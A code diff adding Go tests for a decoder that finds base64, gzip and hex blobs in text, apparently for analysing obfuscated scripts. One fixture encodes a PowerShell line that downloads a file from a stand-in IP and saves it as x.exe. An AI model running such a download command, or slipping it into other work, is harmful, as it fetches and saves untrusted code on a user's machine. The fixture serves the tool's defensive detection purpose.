@@ -168,3 +168,54 @@ func TestSpansAndFullDecoded(t *testing.T) {
 		t.Errorf("FullDecoded = %q, want %q", r.FullDecoded, want)
 	}
 }
+
+func TestWrappedBase64(t *testing.T) {
+	payload := strings.Repeat("Line of a longer script: Invoke-WebRequest http://198.51.100.9/x -OutFile x.exe\n", 8)
+	enc := b64(gz(t, []byte(payload)))
+	wrap := func(s string, width int, nl string) string {
+		var sb strings.Builder
+		for len(s) > width {
+			sb.WriteString(s[:width] + nl)
+			s = s[width:]
+		}
+		sb.WriteString(s)
+		return sb.String()
+	}
+	for _, tc := range []struct {
+		name  string
+		width int
+		nl    string
+	}{{"MIME CRLF 76", 76, "\r\n"}, {"PEM LF 64", 64, "\n"}} {
+		t.Run(tc.name, func(t *testing.T) {
+			block := wrap(enc, tc.width, tc.nl)
+			in := "-----BEGIN DATA-----" + tc.nl + block + tc.nl + "-----END DATA-----"
+			r := unpack.Unpack(in)
+			if len(r.Blobs) != 1 || r.Blobs[0].Text != payload || r.Blobs[0].Encoding() != "base64>gzip" {
+				t.Fatalf("blobs %+v", r.Blobs)
+			}
+			if got := in[r.Blobs[0].Start:r.Blobs[0].End]; got != block {
+				t.Errorf("span %q, want the whole block", got)
+			}
+		})
+	}
+	// Two separate one-line blobs on consecutive lines are not joined.
+	a, c := b64([]byte("first line of decoded text!!!")), b64([]byte("second line of decoded text!"))
+	r := unpack.Unpack(a + "\n" + c)
+	if got := texts(r); len(got) != 2 || got[0] != "first line of decoded text!!!" || got[1] != "second line of decoded text!" {
+		t.Errorf("consecutive lines: %q", got)
+	}
+}
+
+func TestNoHex(t *testing.T) {
+	in := "blob " + hex.EncodeToString([]byte("hello world, this is hex!"))
+	u, err := unpack.New(unpack.Options{NoHex: true})
+	if err != nil {
+		t.Fatal(err)
+	}
+	if r := u.Unpack(in); len(r.Blobs) != 0 {
+		t.Errorf("NoHex: %+v", r.Blobs)
+	}
+	if r := unpack.Unpack(in); len(r.Blobs) != 1 {
+		t.Errorf("hex on by default: %d blobs", len(r.Blobs))
+	}
+}
